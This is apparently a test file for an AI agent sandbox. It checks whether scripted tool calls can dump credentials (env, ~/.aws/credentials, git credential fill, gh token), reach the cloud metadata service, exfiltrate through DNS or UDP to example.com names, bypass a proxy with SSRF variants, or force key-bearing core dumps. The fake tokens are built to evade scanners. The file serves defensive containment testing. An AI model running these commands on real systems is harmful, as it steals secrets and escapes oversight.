/** Group I: secrets, and the ways out for them. */

import { readdirSync, readFileSync } from "node:fs";
import { createServer } from "node:net";
import { join } from "node:path";
import { call } from "@croft/harness/testing";
import { hostile, read, run, says, shell, write, type Row } from "./rig/row.ts";
import { asUser, plant } from "./rig/world.ts";

/** In the forms of real ones, put together here so that nothing that scans this repository takes them for such. */
const tokens = {
  aws: ["AKIA", "Z7QW3M5NXP2RT6VK"].join(""),
  github: ["ghp", "_", "x7Kq2mW9vB4nR8tY1cZ5dF3gH6jL0pS2aE4u"].join(""),
  key: [
    "-----BEGIN",
    " PRIVATE KEY-----\n",
    "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj\nMzEfYyjiWA4R4/M2bS1GB4t7NXp98C3SC6dVMvDuictGeurT8jNbvJZHtCSuYEvu\n",
    "-----END",
    " PRIVATE KEY-----\n",
  ].join(""),
};
const settings = `export const config = {\n  id: "${tokens.aws}",\n  github: "${tokens.github}",\n  port: 8080,\n};\n`;

const readsSettings = {
  does: "reads and edits the file that the secrets are in",
  calls: () => [
    read("config.ts"),
    call("edit_file", { path: "config.ts", old_string: "port: 8080", new_string: "port: 9090" }),
    shell("grep port config.ts"),
  ],
  works: ({ twin, world }: { twin: readonly { text: string; failed: boolean }[]; world: { project: string } }) =>
    says(twin.slice(-1), "9090") && asUserReads(world.project).includes(tokens.github),
};

export const secrets: readonly Row[] = [
  {
    id: "XI1",
    attack: "env, npm and git credentials, gh, aws, the metadata service",
    calls: () => [
      [
        run("env"),
        run("printenv"),
        run("npm", "config", "ls", "-l"),
        run("gh", "auth", "token"),
        run("aws", "configure", "export-credentials"),
      ],
      ...hostile(`env; printenv; set; export -p; npm config ls -l; printf 'host=example.com\\nprotocol=https\\n\\n' | git credential fill; cat ~/.npmrc ~/.git-credentials ~/.aws/credentials ~/.config/gh/hosts.yml ~/.netrc ~/.docker/config.json
        curl -sm2 http://169.254.169.254/latest/meta-data/; (exec 3<>/dev/tcp/169.254.169.254/80) && echo metadata; ls -A ~ /home /root /run /var`),
    ],
    escaped: ({ attack }) =>
      says(attack, /^metadata$|AWS_SECRET|GH_TOKEN|_authToken/m) && "credentials or the metadata service were reached",
    twin: {
      does: "finds what programs need in the environment",
      calls: () => [shell('test -n "$PATH" && test -d "$HOME" && test -w "$TMPDIR" && echo all there')],
      works: ({ twin }) => says(twin, "all there"),
    },
  },
  {
    id: "XI2",
    attack: "secrets in files: search, listing, diff, a token in git's settings",
    files: { "config.ts": settings, "deploy/id.txt": tokens.key },
    prepare: (world) => {
      asUser(world, "git", "remote", "add", "origin", `https://me:${tokens.github}@example.com/x.git`);
      plant(join(world.project, "config.ts"), settings.replace("config =", "config  ="));
    },
    calls: () => [
      [
        read("config.ts"),
        read("deploy/id.txt"),
        call("search", { pattern: "ghp_|AKIA|MII|TOKEN" }),
        call("search", { pattern: "Ew", path: "deploy" }),
        read(".env"),
        call("list_files", { glob: "**/.env" }),
      ],
      [
        run("git", "diff"),
        run("git", "remote", "-v"),
        run("cat", "config.ts", "deploy/id.txt"),
        run("git", "show", "HEAD:config.ts"),
        run("git", "config", "--list"),
        run("cat", ".env", ".git/config"),
      ],
      [write("copy.ts", "x\n"), shell("cat config.ts; cp config.ts c2.ts"), read("c2.ts")],
    ],
    escaped: ({ requests, screen }) => {
      const found = Object.entries(tokens).filter(([, token]) =>
        [requests, screen].some((all) => all.includes(token.split("\n")[1] ?? token)),
      );
      return found.length > 0 && `a ${found.map(([name]) => name).join(" and ")} secret was shown`;
    },
    twin: readsSettings,
  },
  {
    id: "XI3",
    attack: "names as messages: DNS, ping, UDP to a resolver",
    calls: ({ mark }, { udp, tcp, abstract }) => [
      ...hostile(
        `nslookup ${mark}.example.com; ping -c1 -W1 ${mark}.example.com; getent hosts ${mark}.example.com; echo ${mark} > /dev/udp/127.0.0.1/${udp}; echo ${mark} > /dev/udp/127.0.0.1/53; echo ${mark} > /dev/tcp/127.0.0.1/${tcp}; host ${mark}.example.com 127.0.0.1`,
      ),
      write(
        "out.js",
        `const d = require("dgram").createSocket("udp4"); d.on("error", () => {}); d.send("${mark}", ${udp}, "127.0.0.1", () => d.close());
        require("net").connect("\\0${abstract.slice(1)}").on("error", (e) => console.log(e.code)).on("connect", () => console.log("connected"));
        require("net").connect(${tcp}, "127.0.0.1").on("error", (e) => console.log(e.code)).on("connect", () => console.log("connected"));
        require("dns").lookup("${mark}.example.com", (e) => console.log(e ? e.code : "resolved"));\n`,
      ),
      run("node", "out.js"),
      call("run_command", { argv: ["node", "out.js"], hosts: [`${mark}.example.com`] }),
    ],
    escaped: ({ attack }) => says(attack, /^connected|^resolved/m) && "something was reached",
    twin: {
      does: "knows localhost",
      calls: () => [shell("getent hosts localhost")],
      works: ({ twin }) => says(twin, "localhost"),
    },
  },
  {
    id: "XI5",
    attack: "through the proxy of an allowed host to this machine and its neighbours",
    flags: ["--allow-network", "localtest.invalid"],
    calls: (_, { tcp }) => [
      write(
        "ssrf.js",
        `const net = require("net"); const proxy = new URL(process.env.HTTP_PROXY ?? process.env.http_proxy ?? "http://127.0.0.1:1");
        const asks = ["CONNECT 127.0.0.1:${tcp}", "CONNECT localhost:${tcp}", "CONNECT localhost.:${tcp}", "CONNECT [::1]:${tcp}", "CONNECT [::ffff:127.0.0.1]:${tcp}", "CONNECT 0.0.0.0:${tcp}", "CONNECT 2130706433:${tcp}", "CONNECT 169.254.169.254:80", "CONNECT localtest.invalid:${tcp}", "GET http://127.0.0.1:${tcp}/", "GET http://localtest.invalid@127.0.0.1:${tcp}/", "GET http://localtest.invalid.evil:${tcp}/", "GET http://127.0.0.1\\0.localtest.invalid:${tcp}/"];
        for (const ask of asks) { const s = net.connect(proxy.port, proxy.hostname, () => s.write(ask + " HTTP/1.1\\r\\nHost: localtest.invalid\\r\\n\\r\\n")); s.on("error", () => {}).on("data", (d) => { console.log(ask, String(d).split("\\r\\n")[0]); s.destroy(); }); setTimeout(() => s.destroy(), 3000); }\n`,
      ),
      call("run_command", { argv: ["node", "ssrf.js"], hosts: ["localtest.invalid"], timeout_seconds: 20 }),
    ],
    escaped: ({ attack }) =>
      (!says(attack, /HTTP\/1\.1 [45]/) || says(attack, "HTTP/1.1 200")) && "the proxy did not refuse",
    twin: {
      does: "may name the allowed host unasked",
      calls: () => [call("run_command", { argv: ["node", "-v"], hosts: ["localtest.invalid"] })],
      works: ({ twin }) => says(twin, /^v\d+/m) || says(twin, "v2"),
    },
  },
  {
    id: "XI6",
    attack: "a socket file of a service of this machine that lies in the project",
    meanwhile: (world) => {
      const server = createServer((socket) => {
        plant(join(world.outside, "PWNED"), "a socket\n");
        socket.destroy();
      }).listen(join(world.project, "service.sock"));
      return { [Symbol.dispose]: () => void server.close() };
    },
    calls: () => [
      write(
        "talk.js",
        'require("net").connect("service.sock").on("error", (e) => console.log(e.code)).on("connect", () => console.log("connected"));\n',
      ),
      run("node", "talk.js"),
    ],
    escaped: ({ attack }) => says(attack, /^connected/m) && "a service was reached",
    twin: {
      does: "uses a socket file of its own",
      calls: () => [
        write(
          "own.js",
          'const n = require("net"); const s = n.createServer((c) => c.end("hi")).listen("own.sock", () => n.connect("own.sock").on("data", (d) => { console.log("got " + d); s.close(); }));\n',
        ),
        run("node", "own.js"),
      ],
      works: ({ twin }) => says(twin, "got hi"),
    },
  },
  {
    id: "XI11",
    attack: "crash dumps, heap snapshots, reports with keys in them",
    calls: () => [
      ...hostile("ulimit -c unlimited; kill -ABRT $$"),
      write(
        "crash.js",
        'require("v8").writeHeapSnapshot("heap.txt"); process.report.writeReport("report.json"); process.abort();\n',
      ),
      run("node", "crash.js"),
      [call("search", { pattern: "sk-test" }), call("search", { pattern: "canary of", path: "heap.txt" })],
    ],
    escaped: ({ world }) =>
      readdirSync(world.project).some((name) => /^core(?:\.|$)/.test(name)) && "a core was dumped",
    twin: {
      does: "writes a report of its own",
      calls: () => [
        write("r.js", 'process.report.writeReport("r.json"); console.log(require("fs").existsSync("r.json"));\n'),
        run("node", "r.js"),
      ],
      works: ({ twin }) => says(twin, "true"),
    },
  },
];

function asUserReads(project: string): string {
  return readFileSync(join(project, "config.ts"), "utf8");
}
